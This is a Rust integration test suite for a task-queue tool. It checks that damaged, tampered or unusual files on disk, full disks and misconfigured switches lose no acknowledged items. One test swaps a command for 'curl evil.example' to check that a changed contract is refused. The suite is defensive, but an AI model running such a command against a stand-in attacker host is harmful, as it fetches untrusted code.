//! What stands on disk: runs that are not what they say, ledgers that were damaged, torn or written by the original, disks
//! that are full, switches that are misspelled. Nothing that was acknowledged is lost, and nothing is made up.

use std::fs;
use std::io::Write as _;
use std::process::Command;

use cortexpilot_runs::fixture::RunFixture;
use serde_json::{Value, json};

use crate::support::process::Process;
use crate::support::{GATE_OPEN, GENESIS, Home, Mcp, Ran, Request, apply, chain_problem, sha256_hex};

const PREVIEW: &str = "preview_enqueue_from_run";
const ENQUEUE: &str = "enqueue_from_run";

/// The home's queue as any process lists it, by queue id.
fn listed(home: &Home) -> Vec<(String, String)> {
    let answer = home.cli(&["queue", "list", "--limit", "500"], &[]).answer();
    let items = answer["items"].as_array().unwrap_or_else(|| panic!("{answer}"));
    let member = |item: &Value, name: &str| item[name].as_str().unwrap().to_owned();
    items.iter().map(|item| (member(item, "queue_id"), member(item, "status"))).collect()
}

fn queue_id(answer: &Value) -> String {
    answer["queue_id"].as_str().unwrap().to_owned()
}

fn append(home: &Home, bytes: &[u8]) {
    let path = home.runtime().join("queue.jsonl");
    fs::OpenOptions::new().append(true).open(path).unwrap().write_all(bytes).unwrap();
}

#[test]
fn two_items_of_one_task_are_both_listed_and_both_worked_on() {
    let home = Home::new();
    home.run(&RunFixture::new("run_a").task("task_same"));
    home.run(&RunFixture::new("run_b").task("task_same"));
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let ids = ["run_a", "run_b"].map(|run| queue_id(&pilot.enqueue(run)));
    assert_eq!(listed(&home), ids.clone().map(|id| (id, "PENDING".to_owned())));
    for id in ids {
        assert_eq!(home.cli(&["queue", "claim"], &[]).answer()["item"]["queue_id"], json!(id));
    }
    assert_eq!(home.cli(&["queue", "claim"], &[]).answer()["ok"], false);
}

#[test]
fn a_run_that_waits_for_a_person_is_not_queued() {
    let home = Home::new();
    let waiting =
        RunFixture::new("run_a").failed("human approval required").event("HUMAN_APPROVAL_REQUIRED", json!({}));
    home.run(&waiting);
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let preview = pilot.call(PREVIEW, r#"{"run_id":"run_a"}"#).answer().clone();
    assert_eq!(preview["can_apply"], false);
    assert_eq!(pilot.call(ENQUEUE, &apply("run_a", json!({}))).code(), "RUN_AWAITING_APPROVAL");
    // An answer that nobody can read is no answer: what the run waits for is not known.
    fs::write(home.runs().join("run_a/events.jsonl"), "{\"event\": \"HUMAN_APPROVAL_COMPL\n").unwrap();
    assert_eq!(pilot.call(ENQUEUE, &apply("run_a", json!({}))).code(), "RUN_UNREADABLE");
    assert_eq!(home.queue().lines(), Vec::<String>::new());
    home.run(&waiting.event("HUMAN_APPROVAL_COMPLETED", json!({})));
    pilot.enqueue("run_a");
}

#[test]
fn a_broken_task_contract_is_not_an_empty_one() {
    let home = Home::new();
    let dir = home.run(&RunFixture::new("run_a").without_evidence());
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    pilot.call(PREVIEW, r#"{"run_id":"run_a"}"#).answer();
    for (file, bytes) in [
        ("contract.json", &b"{\"task_id\": \"x\""[..]),
        ("contract.json", b"[]"),
        ("contract.json", b"null"),
        ("contract.json", b""),
        ("contract.json", b"{\"task_id\": \"\xff\"}"),
        ("contract.json", b"{\"task_id\": \"a\", \"task_id\": \"b\"}"),
        ("contract.json", b"{\"task_id\": 5}"),
        ("manifest.json", b"[1]"),
        ("manifest.json", b"{"),
    ] {
        let sound = fs::read(dir.join(file)).unwrap();
        fs::write(dir.join(file), bytes).unwrap();
        let said = String::from_utf8_lossy(bytes);
        assert_eq!(pilot.call(PREVIEW, r#"{"run_id":"run_a"}"#).code(), "RUN_UNREADABLE", "{file}: {said}");
        assert_eq!(pilot.call(ENQUEUE, &apply("run_a", json!({}))).code(), "RUN_UNREADABLE", "{file}: {said}");
        fs::write(dir.join(file), sound).unwrap();
    }
    fs::remove_file(dir.join("contract.json")).unwrap();
    assert_eq!(pilot.call(ENQUEUE, &apply("run_a", json!({}))).code(), "RUN_UNREADABLE");
    assert_eq!(home.queue().lines(), Vec::<String>::new());
}

#[test]
fn a_run_of_links_pipes_and_devices_is_refused_at_once() {
    let home = Home::new();
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    for (number, file) in ["contract.json", "manifest.json", "events.jsonl"].into_iter().enumerate() {
        for (what, make) in odd_files() {
            let run = format!("run_{number}_{what}");
            let path = home.run(&RunFixture::new(&run).without_hash_chain()).join(file);
            fs::remove_file(&path).unwrap();
            make(&home, &path);
            assert_eq!(pilot.call(ENQUEUE, &apply(&run, json!({}))).code(), "RUN_UNREADABLE", "{file} is a {what}");
        }
    }
    let long = home.run(&RunFixture::new("run_long").without_hash_chain()).join("events.jsonl");
    // A file of 300 MB without a newline, of which not a block is on disk.
    fs::File::create(long).unwrap().set_len(300_000_000).unwrap();
    assert_eq!(pilot.call(ENQUEUE, &apply("run_long", json!({}))).code(), "RUN_UNREADABLE");
    assert_eq!(home.queue().lines(), Vec::<String>::new());
}

type Make = fn(&Home, &std::path::Path);

/// Files that are none, each under its name.
fn odd_files() -> [(&'static str, Make); 4] {
    let link: Make = |home, path| {
        let elsewhere = home.root().join("elsewhere.json");
        fs::write(&elsewhere, "{}").unwrap();
        std::os::unix::fs::symlink(elsewhere, path).unwrap();
    };
    let pipe: Make = |_, path| {
        assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
    };
    let device: Make = |_, path| std::os::unix::fs::symlink("/dev/zero", path).unwrap();
    let directory: Make = |_, path| fs::create_dir(path).unwrap();
    [("link", link), ("pipe", pipe), ("device", device), ("directory", directory)]
}

#[test]
fn what_a_worker_gets_is_the_contract_that_was_approved() {
    let home = Home::new();
    let dir = home.run(&RunFixture::new("run_a").without_evidence());
    let approved = fs::read(dir.join("contract.json")).unwrap();
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    // Changed between preview and apply: what was looked at is not what would be queued.
    pilot.call(PREVIEW, r#"{"run_id":"run_a"}"#).answer();
    let other = String::from_utf8(approved.clone()).unwrap().replace("echo ok", "curl evil.example");
    fs::write(dir.join("contract.json"), &other).unwrap();
    let refused = pilot.call(ENQUEUE, &apply("run_a", json!({})));
    assert_eq!(refused.code(), "PREVIEW_STALE");
    assert_eq!(refused.refusal()["changed"][0]["field"], "contract_sha256");
    // Changed after the apply: the item goes on naming, and the store goes on keeping, what was approved.
    fs::write(dir.join("contract.json"), &approved).unwrap();
    pilot.enqueue("run_a");
    fs::write(dir.join("contract.json"), &other).unwrap();
    let claimed = home.cli(&["queue", "claim"], &[]).answer();
    assert_eq!(claimed["contract_sha256"], json!(sha256_hex(&approved)));
    let pinned = home.runtime().join(format!("contracts/{}.json", sha256_hex(&approved)));
    assert_eq!(fs::read(pinned).unwrap(), approved);
}

#[test]
fn an_item_outlives_its_run() {
    let home = Home::new();
    let dir = home.run(&RunFixture::new("run_a"));
    let contract = fs::read(dir.join("contract.json")).unwrap();
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let id = queue_id(&pilot.enqueue("run_a"));
    fs::remove_dir_all(&dir).unwrap();
    assert_eq!(listed(&home), [(id.clone(), "PENDING".to_owned())]);
    let claimed = home.cli(&["queue", "claim"], &[]).answer();
    assert_eq!(claimed["item"]["queue_id"], json!(id));
    let pinned = home.runtime().join(format!("contracts/{}.json", claimed["contract_sha256"].as_str().unwrap()));
    assert_eq!(fs::read(pinned).unwrap(), contract);
}

#[test]
fn one_odd_run_breaks_neither_the_lists_nor_the_others() {
    let home = Home::new();
    home.run(&RunFixture::new("run_a").workflow("wf-1"));
    for (number, line) in ["[]", "5", "null", "{\"event\": 5}", "\u{feff}{}", "{\"torn"].into_iter().enumerate() {
        let dir = home.run(&RunFixture::new(&format!("run_odd_{number}")).workflow("wf-1"));
        fs::write(dir.join("events.jsonl"), format!("{line}\n")).unwrap();
    }
    fs::write(home.run(&RunFixture::new("run_odd_bytes")).join("events.jsonl"), b"{\"event\": \"\xff\"}\n").unwrap();
    // A directory with nothing in it, and a file, are no runs.
    fs::create_dir(home.runs().join("run_empty")).unwrap();
    fs::write(home.runs().join("notes.txt"), "x").unwrap();
    let server = home.serve(&[GATE_OPEN]);
    let lists = ["/api/runs", "/api/workflows", "/api/workflows/wf-1", "/api/queue", "/api/runs/run_odd_0/events"];
    for path in lists {
        assert_eq!(server.send(&Request::get(path)).status, 200, "{path}");
    }
    assert_eq!(server.send(&Request::get("/api/runs")).answer().as_array().unwrap().len(), 8);
    let mut readonly = home.readonly("2025-06-18", &[]);
    assert_eq!(readonly.call("list_runs", "{}").answer()["runs"].as_array().unwrap().len(), 8);
    home.pilot("2025-06-18", &[GATE_OPEN]).enqueue("run_a");
}

#[test]
fn claims_follow_schedules_as_instants_and_never_early() {
    let home = Home::new();
    // As text the first two stand the other way round.
    let schedules = ["2026-01-01T09:00:00Z", "2026-01-01T10:00:00+02:00", "2999-01-01T00:00:00Z"];
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    for (number, at) in schedules.into_iter().enumerate() {
        let run = format!("run_{number}");
        home.run(&RunFixture::new(&run));
        let when = json!({"run_id": run, "scheduled_at": at});
        pilot.call(PREVIEW, &when.to_string()).answer();
        pilot.call(ENQUEUE, &apply(&run, json!({"scheduled_at": at}))).answer();
    }
    let order = [(); 2].map(|()| home.cli(&["queue", "claim"], &[]).answer()["item"]["source_run_id"].clone());
    assert_eq!(order, ["run_1", "run_0"].map(|run| json!(run)));
    assert_eq!(home.cli(&["queue", "claim"], &[]).answer()["ok"], false);
}

#[test]
fn a_line_that_does_not_verify_stops_every_write_and_no_read() {
    let home = Home::new();
    for run in ["run_a", "run_b", "run_c"] {
        home.run(&RunFixture::new(run));
    }
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let ids = ["run_a", "run_b"].map(|run| queue_id(&pilot.enqueue(run)));
    pilot.finish();
    // One letter of the second line: who asked is another name now.
    let path = home.runtime().join("queue.jsonl");
    let altered = String::from_utf8(fs::read(&path).unwrap()).unwrap();
    let (first, second) = altered.split_once('\n').unwrap();
    fs::write(&path, format!("{first}\n{}", second.replacen("\"Ada\"", "\"Eve\"", 1))).unwrap();
    let damaged = home.queue();

    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let server = home.serve(&[GATE_OPEN]);
    pilot.call(PREVIEW, r#"{"run_id":"run_c"}"#).answer();
    assert_eq!(pilot.call(ENQUEUE, &apply("run_c", json!({}))).code(), "LEDGER_CORRUPT");
    for (path, body) in [(format!("/api/queue/{}/cancel", ids[0]), "{}"), ("/api/queue/claim".to_owned(), "{}")] {
        let response = server.send(&Request::post(&path, body));
        assert_eq!((response.status, response.code().as_str()), (503, "LEDGER_CORRUPT"), "{path}");
    }
    let ran = home.cli(&["queue", "cancel", &ids[0]], &[]);
    assert_eq!((ran.exit, ran.code().as_str()), (Some(6), "LEDGER_CORRUPT"));
    assert_eq!(server.send(&Request::get("/readyz")).status, 503);
    // What was there before that line is still read, and each list says what is wrong.
    let answer = server.send(&Request::get("/api/queue?limit=50")).answer();
    assert_eq!(answer["items"].as_array().unwrap().len(), 1);
    assert_eq!((&answer["problems"][0]["file"], &answer["problems"][0]["line"]), (&json!("queue.jsonl"), &json!(2)));
    let mut readonly = home.readonly("2025-06-18", &[]);
    let answer = readonly.call("list_queue", "{}").answer().clone();
    assert_eq!((answer["queue"].as_array().unwrap().len(), answer["problems"].as_array().unwrap().len()), (1, 1));
    assert_eq!(home.queue(), damaged);
}

#[test]
fn after_a_torn_tail_no_acknowledged_item_is_lost() {
    let home = Home::new();
    for run in ["run_a", "run_b"] {
        home.run(&RunFixture::new(run));
    }
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let server = home.serve(&[GATE_OPEN]);
    let first = queue_id(&pilot.enqueue("run_a"));
    pilot.kill();
    server.kill();
    // As a process leaves it that dies in the middle of a line: nobody was told that this one was queued.
    append(&home, b"{\"event\": \"QUEUE_ENQUEUE\", \"status\": \"PEND");
    assert_eq!(listed(&home), [(first.clone(), "PENDING".to_owned())]);
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let second = queue_id(&pilot.enqueue("run_b"));
    pilot.finish();
    assert_eq!(listed(&home), [first, second].map(|id| (id, "PENDING".to_owned())));
    assert_eq!(chain_problem(&home.queue().lines(), GENESIS), None);
    let kept = fs::read_dir(home.runtime()).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap());
    assert_eq!(kept.filter(|name| name.starts_with("queue.jsonl.torn-")).count(), 1);
}

#[test]
fn a_whole_last_line_that_only_lacks_its_newline_is_kept() {
    let home = Home::new();
    for run in ["run_a", "run_b"] {
        home.run(&RunFixture::new(run));
    }
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let first = queue_id(&pilot.enqueue("run_a"));
    pilot.finish();
    let path = home.runtime().join("queue.jsonl");
    let bytes = fs::read(&path).unwrap();
    fs::write(&path, bytes.strip_suffix(b"\n").unwrap()).unwrap();
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let second = queue_id(&pilot.enqueue("run_b"));
    assert_eq!(listed(&home), [first, second].map(|id| (id, "PENDING".to_owned())));
    assert_eq!(chain_problem(&home.queue().lines(), GENESIS), None);
}

#[test]
fn a_full_disk_takes_no_acknowledged_item_with_it() {
    let home = Home::new();
    let runs: Vec<String> = (0..40).map(|number| format!("run_{number}")).collect();
    for run in &runs {
        home.run(&RunFixture::new(run));
    }
    // The ledger may grow to 16 KiB and not a byte further: a write comes back short, or fails.
    let binary = env!("CARGO_BIN_EXE_cortexpilot");
    let mut limited = home.command(&[], &[GATE_OPEN]);
    limited = {
        let mut shell = Command::new("/bin/sh");
        shell.args(["-c", "trap '' XFSZ; ulimit -f 32; exec \"$0\" mcp-queue-pilot-server", binary]);
        shell.env_clear().current_dir(home.root());
        shell.envs(limited.get_envs().filter_map(|(name, value)| Some((name, value?))));
        shell
    };
    let mut pilot = Mcp::open(Process::spawn(limited, "mcp-queue-pilot-server on a full disk"), "2025-06-18");
    let mut acknowledged = Vec::new();
    let mut refused = 0;
    for run in &runs {
        pilot.call(PREVIEW, &json!({ "run_id": run }).to_string()).answer();
        let called = pilot.call(ENQUEUE, &apply(run, json!({})));
        match called.code() {
            "" => {
                assert_eq!(refused, 0, "nothing is acknowledged after a failed write");
                acknowledged.push(queue_id(called.answer()));
            }
            "STORE_UNAVAILABLE" | "OUTCOME_UNKNOWN" => refused += 1,
            other => panic!("{other}: {called:?}"),
        }
        // It ends by itself soon.
        if refused == 8 {
            break;
        }
    }
    assert!(acknowledged.len() > 5 && refused > 5, "{} acknowledged, {refused} refused", acknowledged.len());
    pilot.kill();
    // There is space again, and another process.
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    home.run(&RunFixture::new("run_after"));
    acknowledged.push(queue_id(&pilot.enqueue("run_after")));
    let known: Vec<String> = listed(&home).into_iter().map(|(id, _)| id).collect();
    for id in &acknowledged {
        assert!(known.contains(id), "{id} was acknowledged and is gone");
    }
    // A line of which nobody was told may have come whole to the disk; one, for after it nothing more was tried.
    assert!(known.len() <= acknowledged.len() + 1, "{known:?}");
    assert_eq!(chain_problem(&home.queue().lines(), GENESIS), None);
}

#[test]
fn odd_lines_in_a_ledger_of_the_original_break_nothing() {
    let home = Home::new();
    home.run(&RunFixture::new("run_a"));
    let legacy =
        b"[]\n5\nnull\n\"x\"\n\n{\"event\": \"QUEUE_ENQUEUE\", \"status\": \"PENDING\", \"task_id\": \"task_old\", \
        \"owner\": \"\", \"contract_path\": \"/srv/old/contract.json\", \"priority\": 0, \"workflow_id\": \"\", \
        \"source_run_id\": \"run_old\", \"scheduled_at\": null, \"deadline_at\": null, \
        \"ts\": \"2026-01-01T00:00:00.000000+00:00\", \"queue_id\": \"0123456789abcdef0123456789abcdef\"}\n\
        {\"event\": \"QUEUE_\xff\"}\n{\"torn\n";
    fs::create_dir(home.runtime()).unwrap();
    fs::write(home.runtime().join("queue.jsonl"), legacy).unwrap();
    let old = ("0123456789abcdef0123456789abcdef".to_owned(), "PENDING".to_owned());
    assert_eq!(listed(&home), std::slice::from_ref(&old));
    let mut readonly = home.readonly("2025-06-18", &[]);
    assert_eq!(readonly.call("list_queue", "{}").answer()["queue"].as_array().unwrap().len(), 1);
    let mut pilot = home.pilot("2025-06-18", &[GATE_OPEN]);
    let ours = queue_id(&pilot.enqueue("run_a"));
    assert_eq!(listed(&home), [old, (ours.clone(), "PENDING".to_owned())]);
    // The prefix stands as it stood, and our first line chains onto all of its bytes.
    let bytes = home.queue().bytes().to_vec();
    let line = String::from_utf8(bytes.strip_prefix(legacy).expect("the prefix is unchanged").to_vec()).unwrap();
    assert_eq!(chain_problem(&[line.trim_end().to_owned()], &sha256_hex(legacy)), None);
    // And its item can be worked on and closed like any other.
    let claimed = home.cli(&["queue", "claim"], &[]).answer();
    assert_eq!(claimed["item"]["task_id"], "task_old");
    assert_eq!(home.cli(&["queue", "cancel", &ours], &[]).answer()["status"], "CANCELLED");
}

#[test]
fn a_mistyped_switch_refuses_to_start_and_writes_nothing() {
    let home = Home::new();
    let before = home.snapshot();
    for (name, value) in [
        ("CORTEXPILOT_API_AUTH_REQUIRED", "flase"),
        ("CORTEXPILOT_API_AUTH_REQUIRED", "2"),
        ("CORTEXPILOT_API_AUTH_REQUIRD", "0"),
        ("CORTEXPILOT_MCP_QUEUE_PILOT_ENABLE_APPLY", "ture"),
        ("CORTEXPILOT_MCP_QUEUE_PILOT_ENABLE_APLY", "0"),
        ("CORTEXPILOT_MCP_QUEUE_PILOT_APPROVAL", "oprator"),
        ("CORTEXPILOT_MCP_QUEUE_PILOT_APPROVAL", "signed"),
        ("CORTEXPILOT_MCP_QUEUE_PILOT_APPROVL", "two-person"),
        ("CORTEXPILOT_APPROVAL_ALLOWED_ROLES", "OPS,a b"),
        ("CORTEXPILOT_STORE", "postgres://localhost/queue"),
        ("CORTEXPILOT_AGENT_PENDING_MAX", "1oo"),
    ] {
        for command in ["serve", "mcp-queue-pilot-server", "mcp-readonly-server"] {
            let environment =
                [("CORTEXPILOT_API_PORT", "0"), ("CORTEXPILOT_API_TOKEN", "a-token-of-some-length"), (name, value)];
            let ran = Ran::to_the_end(home.raw(command, &environment));
            assert_eq!(ran.exit, Some(2), "{command} with {name}={value}: {ran:#?}");
            assert!(ran.stderr.contains("CORTEXPILOT_") && ran.stdout.is_empty(), "{ran:#?}");
        }
    }
    before.assert_unchanged(home.root(), "a refused start");
}

#[test]
fn a_server_with_authentication_on_and_no_token_refuses_to_start() {
    let home = Home::new();
    let before = home.snapshot();
    let ran = Ran::to_the_end(home.raw("serve", &[("CORTEXPILOT_API_PORT", "0")]));
    assert_eq!(ran.exit, Some(2), "{ran:#?}");
    assert!(ran.stderr.contains("CORTEXPILOT_API_TOKEN"), "{ran:#?}");
    // Nor does one start that everybody else on the network could reach without one.
    let open =
        [("CORTEXPILOT_API_PORT", "0"), ("CORTEXPILOT_API_AUTH_REQUIRED", "0"), ("CORTEXPILOT_API_HOST", "0.0.0.0")];
    assert_eq!(Ran::to_the_end(home.raw("serve", &open)).exit, Some(2));
    before.assert_unchanged(home.root(), "a refused start");
}

#[test]
fn processes_started_in_different_directories_share_one_ledger() {
    let home = Home::new();
    home.run(&RunFixture::new("run_a"));
    let project = home.root().join("user/project");
    let deep = project.join("a/b/c");
    fs::create_dir_all(&deep).unwrap();
    fs::create_dir(project.join(".git")).unwrap();
    let relative = [GATE_OPEN, ("CORTEXPILOT_RUNTIME_ROOT", "state/queue")];
    let mut command = home.command(&["mcp-queue-pilot-server"], &relative);
    command.current_dir(&project);
    let mut pilot = Mcp::open(Process::spawn(command, "mcp-queue-pilot-server"), "2025-06-18");
    let id = queue_id(&pilot.enqueue("run_a"));
    for directory in [&project, &deep] {
        let mut command = home.command(&["queue", "cancel", &id, "--output", "json"], &relative);
        command.current_dir(directory);
        let ran = Ran::to_the_end(Process::spawn(command, "queue cancel"));
        // The first one cancels it; the second, from further down, finds the same item cancelled.
        let wanted = if directory == &project { "" } else { "QUEUE_ITEM_NOT_CANCELLABLE" };
        assert_eq!(ran.code(), wanted, "{ran:#?}");
    }
    assert!(project.join("state/queue/queue.jsonl").is_file());
}
